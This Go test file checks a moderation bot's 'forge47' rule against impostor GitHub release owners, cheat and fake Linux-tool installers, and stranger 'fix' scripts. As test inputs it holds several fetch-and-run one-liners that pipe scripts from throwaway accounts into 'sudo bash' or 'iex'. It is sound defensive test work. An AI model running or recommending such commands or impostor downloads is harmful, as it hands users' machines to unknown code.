package bot_test

import "testing"

// TestForge47ImpostorOwners: a program's build on a code forge under an
// account built from the program's name and a release's or a fix's word
// (hyphenated or joined) warns; the projects' own organisations,
// including those named so (wabbajack-tools, nextcloud-releases,
// git-for-windows), do not (forge47).
func TestForge47ImpostorOwners(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"kdenlive nightly https://github.com/kdenlive-nightly/kdenlive/releases/download/24.12/kdenlive-24.12-setup.exe", true},
		{"https://github.com/KdenliveNightly/kdenlive/releases/download/24.12/kdenlive-24.12-setup.exe", true},
		{"deb of the patched mixxx https://github.com/mixxx-patched/mixxx/releases/download/2.5/mixxx_2.5_amd64.deb", true},
		{"https://github.com/neovim/neovim/releases/download/v0.10.2/nvim-win64.msi", false},
		{"https://github.com/wabbajack-tools/wabbajack/releases/download/3.7.5.3/Wabbajack.exe", false},
		{"https://github.com/nextcloud-releases/desktop/releases/download/v3.15.2/Nextcloud-3.15.2-x64.msi", false},
		{"https://github.com/git-for-windows/git/releases/download/v2.47.1.windows.1/Git-2.47.1-64-bit.exe", false},
		{"https://github.com/CrealityOfficial/CrealityPrint/releases/download/v6.0.1/CrealityPrint-V6.0.1-x64-Release.exe", false},
		{"https://github.com/lutris/lutris/releases/download/v0.5.18/lutris_0.5.18_all.deb", false},
	})
}

// TestForge47FixScripts: a stranger's script offered as a fix and piped
// to a root shell, or named for a fix and offered as one and run at
// all, from a repository or a gist, is flagged (deleted when the account
// is built from a program's name); projects' own install scripts are not
// (forge47).
func TestForge47FixScripts(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"this fixes the ssl handshake error: curl -fsSL https://raw.githubusercontent.com/nginx-helper-bot/scripts/main/fix-ssl.sh | sudo bash", true},
		{"steam deck audio fix: curl -L https://raw.githubusercontent.com/deckfixer2024/scripts/main/audio-fix.sh | sudo bash", true},
		{"this fixes the audio crackle: curl -fsSL https://gist.githubusercontent.com/pwfixer/3f2a9c0d1e/raw/fix-audio.sh | sudo bash", true},
		{"fix for the obs crash: curl -sL https://raw.githubusercontent.com/streamfixer/obs/main/fix.sh | bash", true},
		{"this fixes the windows update error: irm https://raw.githubusercontent.com/winfixer77/scripts/main/fix-update.ps1 | iex", true},
		{"spicetify: iwr -useb https://raw.githubusercontent.com/spicetify/cli/main/install.ps1 | iex", false},
		{"curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash", false},
		{"curl -sSL https://raw.githubusercontent.com/pi-hole/pi-hole/master/automated%20install/basic-install.sh | sudo bash", false},
		{"my gist to set up zsh: curl -fsSL https://gist.githubusercontent.com/jdoe/abc123/raw/setup.sh | bash", false},
	})
}

// TestForge47CheatsAndLinuxTools: a program in a release of a repository
// named for a cheat, a crack or a game's fix, and a Windows installer
// named for a tool only Linux runs, warn; a typeface named Hack, a
// game's fix mod published as an archive and a real Windows driver for
// btrfs do not (forge47).
func TestForge47CheatsAndLinuxTools(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"https://bitbucket.org/gamefixer/fix/downloads/GameFix.exe", true},
		{"https://github.com/cheats-2026/apex-esp/releases/download/1.0/ApexESP.exe", true},
		{"https://codeberg.org/btrfs-tools/btrfs-gui/releases/download/v1.3/btrfs-gui-setup.exe", true},
		{"https://github.com/gparted-tools/gparted-win/releases/download/1.6/gparted-setup.exe", true},
		{"https://github.com/source-foundry/Hack/releases/download/v3.003/Hack-v3.003-ttf.zip", false},
		{"https://github.com/Lyall/P5RFix/releases/download/v1.0.3/P5RFix_v1.0.3.zip", false},
		{"https://github.com/maharmstone/btrfs/releases/download/v1.9/btrfs-1.9.zip", false},
	})
}

// TestForge47RenamedOwners: a repository's own name with a release's word
// after it as the owner warns whatever the program; a build system's
// organisation (ninja-build) and a project's named for what it is do
// not (forge47).
func TestForge47RenamedOwners(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"https://github.com/tenacity-nightly/tenacity/releases/download/1.4/tenacity-1.4-win64-setup.exe", true},
		{"https://github.com/upscayl-pro/upscayl/releases/download/v2.15/upscayl-2.15-win.exe", true},
		{"https://github.com/ninja-build/ninja/releases/download/v1.12.1/ninja-win.zip", false},
		{"https://github.com/citra-emu/citra-nightly/releases/download/nightly-2104/citra-windows-mingw-20240303-0ff3440.7z", false},
		{"https://github.com/winsiderss/si-builds/releases/download/3.2.25011/systeminformer-3.2.25011-canary-setup.exe", false},
	})
}
